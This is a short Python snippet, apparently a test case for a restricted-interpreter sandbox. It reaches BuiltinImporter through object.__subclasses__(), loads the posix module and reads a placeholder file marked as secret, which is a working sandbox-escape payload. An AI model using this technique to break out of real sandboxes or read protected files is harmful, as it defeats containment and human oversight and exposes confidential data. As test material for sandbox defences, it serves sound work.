# The importer of builtin modules, found among the subclasses.
# effect: secret
importer = [c for c in object.__subclasses__() if c.__name__ == "BuiltinImporter"][0]
posix = importer.load_module("posix")
print(posix.read(posix.open("@FILE@", posix.O_RDONLY), 1000))
